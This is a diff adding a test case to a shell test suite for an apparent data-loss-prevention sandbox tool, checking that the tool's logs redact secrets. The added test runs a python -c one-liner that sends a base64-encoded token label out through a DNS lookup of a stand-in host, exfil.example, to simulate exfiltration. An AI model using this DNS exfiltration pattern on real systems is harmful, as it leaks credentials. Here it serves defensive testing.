@@ -23,6 +23,14 @@ check "ppid and argv of the process" event_has '"ppid":[0-9]+' '"argv":\["curl",
 check "the content block names detector and mode" event_has '"detector":"aws-access-key-id"' '"mode":"enforce"' '"proto":"tcp"'
 check "the key never reaches the log" sh -c "! grep -q '$KEY' '$T/events.jsonl'"
 check "a secret-looking argument is redacted in argv" sh -c "! grep -q '$SECRETARG' '$T/events.jsonl' && grep -q 'X-Token: s3cr' '$T/events.jsonl'"
+# an attacker's script names the data it sends inside its own command line
+rm -f "$T/ev2.jsonl"
+LABEL=Z2hwX1NlY3JldFRva2VuRXhmaWw
+"$DLPJAIL" --no-default-policy -q --log "$T/ev2.jsonl" python3 -c "
+import socket
+try: socket.getaddrinfo('$LABEL.exfil.example', 443)
+except OSError: pass" 2>/dev/null
+check "a label inside a python -c script is redacted in argv" sh -c "grep -q '\"argv\":\[' '$T/ev2.jsonl' && ! grep -q '$LABEL' '$T/ev2.jsonl'"
 check "ids are unique" sh -c "[ \$(grep -o '\"id\":\"[^\"]*\"' '$T/events.jsonl' | sort | uniq -d | wc -l) -eq 0 ]"
 check "the summary says how to explain a block" grep -q 'the whole story: dlpjail explain [0-9a-f]*-[0-9]* --log' "$T/stderr"
 
